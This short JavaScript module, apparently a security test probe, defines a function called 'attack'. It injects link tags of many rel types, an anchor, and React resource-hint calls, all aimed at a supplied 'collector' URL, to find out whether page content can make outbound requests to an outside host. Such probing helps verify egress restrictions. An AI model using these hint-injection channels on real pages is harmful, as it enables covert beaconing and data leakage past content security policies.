import { preconnect, prefetchDNS, preinit, preload } from "react";

const attack = ({ collector }) => {
  for (const rel of ["prefetch", "preconnect", "dns-prefetch", "prerender", "preload", "stylesheet", "icon", "modulepreload", "manifest"]) {
    try {
      const link = document.createElement("link");
      Object.assign(link, { rel, href: `${collector}/${rel}`, as: "script" });
      document.head.append(link);
    } catch {
      // The next one.
    }
  }
  const rules = document.createElement("a");
  rules.href = `${collector}/anchor`;
  document.body.append(rules);
  for (const hint of [preconnect, prefetchDNS, preinit, preload]) hint?.(`${collector}/hint`, { as: "script" });
  return document.querySelector("link") ? "open" : "closed";
};
